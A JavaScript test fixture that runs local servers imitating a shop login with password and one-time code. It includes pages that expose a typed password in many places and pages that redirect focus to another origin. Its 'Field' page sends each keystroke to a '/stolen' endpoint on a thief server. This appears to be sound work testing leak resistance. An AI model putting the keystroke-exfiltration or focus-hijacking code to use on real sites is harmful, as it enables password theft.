// A shop with a login that asks for a password and a code, pages that show what was typed, and another site that wants it.
import crypto from 'node:crypto';
import http from 'node:http';

export const PASSWORD = 'Tr0ub4dor&3 "x" <y>';
export const TOTP_SECRET = 'GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ'; // of RFC 6238: the key is 12345678901234567890
const STEP_MS = 30000;

const codeOf = (period) => {
  const counter = Buffer.alloc(8);
  counter.writeBigUInt64BE(BigInt(period));
  const digest = crypto.createHmac('sha1', '12345678901234567890').update(counter).digest();
  const at = digest[19] & 15;
  return String((digest.readUInt32BE(at) & 0x7fffffff) % 1000000).padStart(6, '0');
};

const LOGIN = `<!doctype html><title>Sign in</title><form method=post action=/login><label>User <input name=user></label>
<label>Password <input name=password type=password id=p></label>
<label><input type=checkbox onchange="p.type = this.checked ? 'text' : 'password'">Show it</label><button>Sign in</button></form>`;
const CODE = `<!doctype html><title>Code</title><form method=post action=/code><label>Code <input name=code autocomplete=one-time-code></label><button>Go</button></form>`;
const WELCOME = `<!doctype html><title>Welcome</title><h1>Welcome</h1>`;

// Red is what nobody may see on a picture, green what stays.
const ECHO = `<!doctype html><title>Echo</title><style>*{font:24px sans-serif}.r{color:#f00}.g{color:#0a0}</style>
<p class=g>Public words</p><label>Password <input type=password id=p></label><p class=r id=whole></p><p class=r id=split></p><div id=shadow></div>
<textarea class=r id=area></textarea><input class=r id=shown><p id=generated class=r></p><style>#generated::after{content:attr(data-x)}</style><iframe srcdoc="<style>*{font:24px sans-serif;color:red}</style><p id=q></p>" id=inner></iframe>
<script>p.addEventListener('input', () => { const v = p.value
  document.title = 'Typed ' + v; whole.innerHTML = '<span class=g>It is </span>'; whole.append(v); area.value = v; shown.value = v; generated.dataset.x = v
  for (const c of v) split.append(Object.assign(document.createElement('b'), { textContent: c }))
  const root = shadow.attachShadow({ mode: 'open' }); root.innerHTML = '<i style="color:#f00"></i>'; root.firstChild.textContent = v
  inner.contentDocument.getElementById('q').textContent = v
  history.replaceState(null, '', '?p=' + encodeURIComponent(v)); console.log('typed', v, { v }); console.error(v + '!'); document.cookie = 'p=' + encodeURIComponent(v)
  alert('You typed ' + v); setTimeout(() => { throw new Error('on purpose ' + v) }) })</script>`;

// The focus leads away at once, to a page of the other site that has such a field in the focus.
const LEAVES = (other) => `<!doctype html><title>Leaves</title><label>Password <input type=password onfocus="location='${other}/field'; for (let t = Date.now(); Date.now() - t < 300;);"></label>`;
const STEALS = (other) => `<!doctype html><title>Steals the focus</title><label>Password <input type=password onfocus="setTimeout(() => other.focus()); note.focus()"></label>
<textarea id=note aria-label=Note></textarea><iframe id=other src="${other}/field"></iframe>`;
const FRAMED = (other, near) => `<!doctype html><title>Frames</title><iframe title=far src="${other}/field"></iframe><iframe title=near src="${near}/field"></iframe>
<iframe title=boxed sandbox="allow-scripts" src="/field?boxed"></iframe><iframe title=inside srcdoc="<label>Password <input type=password></label>"></iframe><iframe title=blank></iframe>
<script>document.querySelector('[title=blank]').contentDocument.body.innerHTML = '<label>Password <input type=password></label>'</script>`;
const FIELDS = `<!doctype html><title>Fields</title><label>Chat <textarea></textarea></label><div contenteditable role=textbox aria-label=Editor>.</div><label>Name <input></label><label>Discs <input style="-webkit-text-security:disc"></label><label>Short <input type=password maxlength=3></label>`;
// Tells its server of every change.
const FIELD = `<!doctype html><title>Field</title><label>Password <input type=password autofocus></label><script>document.querySelector('input').focus()
addEventListener('input', event => fetch('/stolen?' + encodeURIComponent(event.target.value)))</script>`;

async function serve(answer) {
  const server = http.createServer(async (request, response) => {
    let body = '';
    for await (const piece of request) body += piece;
    const said = answer(new URL(request.url, 'http://x'), new URLSearchParams(body), request) ?? FIELD;
    if (typeof said === 'string') response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(said);
    else response.writeHead(said.status ?? 302, said.headers).end(said.body);
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, port: server.address().port, stop: () => (server.closeAllConnections(), new Promise((resolve) => server.close(resolve))) };
}

/** {url, other (another site), near (another origin of the same host), allow, host, stolen, logins, codes, stop()} */
export async function startLoginSite() {
  const site = { stolen: [], logins: [], codes: [], used: new Set() };
  const thief = (url) => {
    if (url.pathname === '/stolen') site.stolen.push(decodeURIComponent(url.search.slice(1)));
  };
  const [far, near] = [await serve(thief), await serve(thief)];
  site.other = `http://localhost:${far.port}`;
  site.near = `http://127.0.0.1:${near.port}`;
  const pages = { '/login': LOGIN, '/code': CODE, '/echo': ECHO, '/leaves': LEAVES(site.other), '/steals': STEALS(site.other), '/framed': FRAMED(site.other, site.near), '/fields': FIELDS };
  const takes = (code) => {
    const period = Math.floor(Date.now() / STEP_MS);
    const right = [period, period - 1].some((one) => codeOf(one) === code) && !site.used.has(code);
    site.codes.push(code);
    site.used.add(code);
    return right;
  };
  const shop = await serve((url, form, request) => {
    if (url.pathname === '/file') return { status: 200, headers: { 'content-type': 'text/plain', 'content-disposition': 'attachment; filename=mine.txt' }, body: `it is ${PASSWORD}\n` };
    if (request.method !== 'POST') return pages[url.pathname];
    if (url.pathname === '/code') return takes(form.get('code')) ? WELCOME : CODE.replace('<form', '<p>Wrong code</p><form');
    site.logins.push(Object.fromEntries(form));
    return form.get('user') === 'olga' && form.get('password') === PASSWORD ? { headers: { location: '/code' } } : LOGIN;
  });
  site.host = `127.0.0.1:${shop.port}`;
  site.url = `http://${site.host}`;
  site.allow = [site.host, `localhost:${far.port}`, `127.0.0.1:${near.port}`].join();
  site.stop = () => Promise.all([far, near, shop].map((one) => one.stop()));
  return site;
}
